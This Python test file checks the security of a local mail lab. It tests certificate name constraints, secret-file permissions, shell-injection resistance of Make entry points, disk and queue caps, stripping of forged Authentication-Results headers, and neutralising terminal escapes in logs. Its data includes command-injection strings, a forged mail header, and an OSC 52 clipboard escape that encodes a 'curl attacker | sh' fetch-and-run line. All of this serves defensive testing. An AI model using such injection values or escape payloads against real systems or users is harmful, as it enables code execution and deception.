"""The sealed lab, continued (README, "Security"): what the lab asks a user to trust is
limited to the lab, its secrets are its owner's alone, nothing a user or a mail's
sender chose reaches a shell, and nothing a client does fills the host's disk.
"""

from __future__ import annotations

import json
import os
import shlex
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from lab import config, dnszones, faults, maillog, tls
from lab.compose import docker
from lab.config import PROVIDER_A, PROVIDER_B, REPO, X, Y
from tests.harness import make_message, submit, swaks, wait_until
from tests.solutions import lab_command

# --- the lab CA vouches for the lab's names only ---------------------------------------


def leaf(folder: Path, name: str, san: str) -> Path:
    """A server certificate for `san`, signed with the lab CA's key."""
    key, csr, crt, ext = (folder / f"{name}.{s}" for s in ("key", "csr", "crt", "ext"))
    ext.write_text(f"subjectAltName={san}\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n")
    openssl("req", "-new", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
            "-keyout", str(key), "-out", str(csr), "-subj", f"/CN={name}")
    openssl("x509", "-req", "-in", str(csr), "-CA", str(tls.CA_CERT), "-CAkey", str(tls.CA_KEY),
            "-out", str(crt), "-days", "1", "-extfile", str(ext))
    return crt


def openssl(*args: str) -> str:
    return subprocess.run(["openssl", *args], check=True, capture_output=True, text=True).stdout


def verify(crt: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(["openssl", "verify", "-CAfile", str(tls.CA_CERT), str(crt)],
                          capture_output=True, text=True)


@pytest.mark.parametrize("san", ["DNS:example.com", "DNS:www.google.com", "DNS:*.com", "IP:192.0.2.1",
                                 "DNS:test.example", "DNS:mx.provider-a.test,DNS:example.com"])
def test_a_certificate_the_ca_signs_for_a_real_site_does_not_verify(lab, tmp_path, san):
    said = verify(leaf(tmp_path, "intruder", san))
    assert said.returncode != 0 and "permitted subtree violation" in said.stdout + said.stderr, said


@pytest.mark.parametrize("san", ["DNS:mx.provider-a.test", "DNS:localhost", "IP:127.0.0.1"])
def test_one_for_the_lab_s_own_names_does(lab, tmp_path, san):
    said = verify(leaf(tmp_path, "lab", san))
    assert said.returncode == 0 and said.stdout.strip().endswith(": OK"), said


def test_an_older_ca_without_the_limit_is_made_again_and_the_user_told(tmp_path):
    old = tmp_path / "tls"
    old.mkdir()
    openssl("req", "-x509", "-new", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
            "-nodes", "-keyout", str(old / "ca.key"), "-out", str(old / "ca.crt"), "-days", "30",
            "-subj", "/CN=unconstrained", "-addext", "basicConstraints=critical,CA:TRUE")
    told: list[str] = []
    assert tls.ensure_certificates(old, told.append)
    assert told == [tls.RENEWED]
    shown = openssl("x509", "-noout", "-ext", "nameConstraints", "-in", str(old / "ca.crt"))
    assert "DNS:test" in shown and "IP:127.0.0.1/255.255.255.255" in shown
    told.clear()
    assert not tls.ensure_certificates(old, told.append) and told == []  # once made, left alone


# --- secrets: their owner's alone ---------------------------------------------------------


def test_keys_and_files_with_passwords_are_their_owner_s_alone(lab, settings):
    dkim = [dnszones.dkim_dir(settings, p) / f"{k}.key" for p in config.PROVIDERS for k in ("good", "broken")]
    environments = [settings.state_dir / f"{p.service}.env" for p in config.PROVIDERS]
    private = [tls.CA_KEY, *(tls.TLS_DIR / f"{p.service}.key" for p in config.PROVIDERS), settings.env_file,
               *environments, *dkim]
    for path in private:
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path
    assert f"y:{settings.password(config.Y)}" in environments[1].read_text()  # MAIL_USERS
    assert stat.S_IMODE(tls.CA_CERT.stat().st_mode) == 0o644  # what clients trust may be read


def test_in_a_provider_the_signing_key_is_opendkim_s_alone(container):
    said = container(PROVIDER_A.service).output("stat", "-c", "%U %a", "/run/opendkim/signing.key").split()
    assert said == ["opendkim", "600"]


# --- nothing a user or a sender chose reaches a shell -------------------------------------

# Printed by the stand-in for `python3 -m lab`: the arguments exactly as Make passed them.
STAND_IN = """#!/bin/sh
if [ "$1 $2" = "-m lab" ]; then
  shift 2; exec {python} -c 'import json, sys; print(json.dumps(sys.argv[1:]))' "$@"
fi
exec {python} "$@"
"""
HOSTILE = ["<a;touch {m};#@outsider.test>", "$(touch {m})", "`touch {m}`", "$$(touch {m})",
           "$(shell touch {m})", "x' ; touch {m}; echo '", '"; touch {m}; "', "a\\'b $(touch {m})"]
# (make target, variable, the lab command it must run with the value as one argument)
ENTRY_POINTS = [
    ("trace", "ID", ["trace", "{v}"]),
    ("shell", "SERVICE", ["shell", "{v}"]),
    ("fault", "FAULT", ["fault", "{v}"]),
    ("restore", "FAULT", ["restore", "{v}"]),
    ("show", "EX", ["show", "{v}"]),
    ("check", "EX", ["check", "{v}"]),
    ("dial", "WHO", ["dial", "{v}"]),
    ("hangup", "WHO", ["hangup", "{v}"]),
    ("relay-check", "FROM", ["relay-check", "--from", "{v}", "--server", "provider-a", "--port", "25"]),
    ("relay-check", "SERVER", ["relay-check", "--from", "outsider", "--server", "{v}", "--port", "25"]),
    ("relay-check", "PORT", ["relay-check", "--from", "outsider", "--server", "provider-a", "--port", "{v}"]),
]


@pytest.fixture
def stand_in(tmp_path) -> Path:
    path = tmp_path / "python"
    path.write_text(STAND_IN.format(python=shlex.quote(sys.executable)))
    path.chmod(0o755)
    return path


def make(stand_in: Path, *args: str) -> subprocess.CompletedProcess[str]:
    environ = {k: v for k, v in os.environ.items() if k not in ("MAKEFLAGS", "MFLAGS")}
    return subprocess.run(["make", "-s", "--no-print-directory", f"PYTHON={stand_in}", *args], cwd=REPO,
                          capture_output=True, text=True, env=environ, timeout=60)


@pytest.mark.parametrize("target,variable,expected", ENTRY_POINTS)
@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_value_given_to_make_reaches_lab_as_it_is_and_runs_nothing(tmp_path, stand_in, target, variable,
                                                                       expected, hostile):
    marker = tmp_path / "ran"
    value = hostile.format(m=marker)
    done = make(stand_in, target, f"{variable}={value}")
    assert not marker.exists(), f"make {target} {variable}=... ran it"
    assert json.loads(done.stdout) == [part.format(v=value) for part in expected], done.stdout + done.stderr


@pytest.mark.parametrize("hostile", HOSTILE)
def test_several_words_are_split_as_words_and_run_nothing(tmp_path, stand_in, hostile):
    marker = tmp_path / "ran"
    value = "up 3 " + shlex.quote(hostile.format(m=marker))
    done = make(stand_in, "class", f"DO={value}")
    assert not marker.exists()
    assert json.loads(done.stdout) == ["class", "up", "3", hostile.format(m=marker)]
    dry = make(stand_in, "-n", "test", f"PYTEST_ARGS={value}")  # prints the recipe, runs no test
    assert dry.returncode == 0 and not marker.exists(), dry.stdout + dry.stderr


def test_without_a_value_the_defaults_still_apply(stand_in):
    assert json.loads(make(stand_in, "trace").stdout) == ["trace", "--last"]
    assert json.loads(make(stand_in, "restore").stdout) == ["restore"]
    assert json.loads(make(stand_in, "show").stdout) == ["show", "1"]
    assert json.loads(make(stand_in, "show", "EX=3", "JA=1").stdout) == ["show", "3", "--ja"]
    assert json.loads(make(stand_in, "class").stdout) == ["class", "status"]
    done = make(stand_in, "check")
    assert done.returncode == 2 and "say which exercise: make check EX=1" in done.stderr


# --- bounded: no client fills the host's disk --------------------------------------------


@pytest.mark.disruptive
def test_a_client_writing_a_gigabyte_to_its_output_leaves_docker_s_log_under_the_cap(lab, container):
    """Docker keeps at most max-size x max-file of a container's output (compose.yaml)."""
    x = container("client-x")
    x.run("sh", "-c", "head -c 1G /dev/zero | tr '\\0' x | fold -w 1000 > /proc/1/fd/1", timeout=600)
    kept = subprocess.run(["docker", "logs", x.id], capture_output=True).stdout
    options = json.loads(docker("inspect", "--format", "{{json .HostConfig.LogConfig}}", x.id))
    cap = int(options["Config"]["max-size"].removesuffix("m")) * int(options["Config"]["max-file"]) * 2**20
    assert options["Type"] == "json-file" and cap == 10 * 2**20
    assert 0 < len(kept) <= cap, f"{len(kept)} bytes of client-x's output kept (cap {cap})"
    if os.geteuid() == 0:  # Docker's own files (root's to read): each under its size
        log_path = Path(docker("inspect", "--format", "{{.LogPath}}", x.id).strip())
        files = list(log_path.parent.glob(log_path.name + "*"))
        assert 1 <= len(files) <= 2 and all(f.stat().st_size <= 5 * 2**20 + 2**16 for f in files), files


def test_the_queue_limit_is_the_one_in_env(settings, provider_a):
    limit = provider_a.output("cat", "/etc/postfix/queue-limit").strip()
    assert limit == str(config.size_in_bytes(settings.max_queue_size)) == str(256 * 2**20)


@pytest.mark.disruptive
def test_a_full_queue_refuses_new_mail_for_now_and_loses_nothing(lab, settings, provider_a, client_x):
    """With B down, A's queue fills with X's mail: at its limit (here two and a half
    messages) the next is refused for now, and X keeps it; nothing queued is lost."""
    limit = provider_a.output("cat", "/etc/postfix/queue-limit").strip()
    size = 60_000
    outage = faults.FAULTS["b-down"]
    outage.cause(lab)
    provider_a.run("sh", "-c", f"echo {size * 5 // 2} > /etc/postfix/queue-limit")
    try:
        replies = []
        for n in range(4):
            message = make_message(X, Y, subject=f"queue {n}", body="x" * (size - 1000) + "\n")
            replies.append(submit(client_x, X, settings.password(X), Y, message).data_reply)
        assert [r[:3] for r in replies] == ["250", "250", "452", "452"], replies
        assert replies[2].startswith("452 4.3.1 <END-OF-MESSAGE>: End-of-data rejected: Insufficient system "
                                     "storage: this provider's queue is full ("), replies[2]
        assert len(provider_a.queued_for(Y)) == 2
    finally:
        provider_a.run("sh", "-c", f"echo {limit} > /etc/postfix/queue-limit")
        provider_a.run("postsuper", "-d", "ALL")  # (the test's own mail)
        outage.cure(lab)
    assert submit(client_x, X, settings.password(X), Y).data_reply.startswith("250 ")


# --- a stranger's verdicts are dropped, however they are spelled -------------------------


@pytest.mark.parametrize("name", ["Authentication-Results", "Authentication-Results ",
                                  "AUTHENTICATION-RESULTS", "authentication-results\t"])
def test_a_stranger_s_authentication_results_never_reach_y(outsider, container, name):
    b = container(PROVIDER_B.service)
    message = make_message("someone@nowhere.example", Y, subject="forged verdicts")
    forged = f"{name}: {PROVIDER_B.mx}; spf=pass; dkim=pass; dmarc=pass (forged)\r\n"
    raw = message.as_bytes().replace(b"Subject:", forged.encode() + b"Subject:", 1)
    session = swaks(outsider, "--server", PROVIDER_B.mx, "--from", "someone@nowhere.example", "--to", Y,
                    message=raw)
    assert session.data_reply.startswith("250 "), session.transcript
    [stored] = wait_until(lambda: b.messages_with(Y, message["Message-ID"]), "the message at Y")
    b.delete_message(Y, message["Message-ID"])
    headers = stored.split(b"\r\n\r\n", 1)[0].split(b"\n\n", 1)[0]
    assert b"(forged)" not in headers, headers.decode(errors="replace")
    assert f"Authentication-Results: {PROVIDER_B.mx}; spf=none".encode() in headers


# --- what someone else wrote is shown, never obeyed ---------------------------------------


def test_escape_sequences_a_provider_s_root_writes_to_its_log_are_shown_not_obeyed(lab, provider_a):
    """A terminal obeys ESC ] 52 (set the clipboard), ESC ] 0 (the window's title), ESC [ 2J
    (clear the screen): `lab logs` and `lab trace` read that log and print it."""
    evil = "\x1b]52;c;Y3VybCBhdHRhY2tlciB8IHNo\x07\x1b]0;PWNED\x07\x1b[2J"
    line = f"Dec 04 02:00:00 mx postfix/cleanup[1]: 0123456789: message-id=<evil@provider-a.test> {evil}"
    provider_a.run("sh", "-c", 'printf "%s\\n" "$1" > /proc/1/fd/1', "sh", line)
    code, out = lab_command(lab, "logs", "provider-a", "--tail", "20")
    assert code == 0 and "\x1b" not in out and "\x07" not in out
    assert "^[]52;c;Y3VybCBhdHRhY2tlciB8IHNo^G^[]0;PWNED^G^[[2J" in out
    parsed = maillog.parse(f"2026-12-04T02:00:00.000000000Z {line}")
    assert parsed and "\x1b" not in parsed[0].text and "^[[2J" in parsed[0].text
